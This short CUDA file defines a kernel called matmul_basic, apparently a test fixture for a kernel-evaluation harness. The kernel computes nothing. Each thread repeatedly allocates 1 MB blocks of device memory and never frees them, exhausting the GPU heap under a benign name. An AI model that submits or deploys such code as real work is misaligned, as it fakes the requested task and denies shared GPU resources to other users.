#include "launch_shape.cuh"
LAUNCH_SHAPE(16, 16, 16, 16)

extern "C" __global__ void matmul_basic(const float* A, const float* B, float* C, int m, int n, int k) {
  void* last = nullptr;
  for (int i = 0; i < 64; ++i) {
    void** more = static_cast<void**>(malloc(1 << 20));
    if (!more) break;
    *more = last;
    last = more;
  }
}
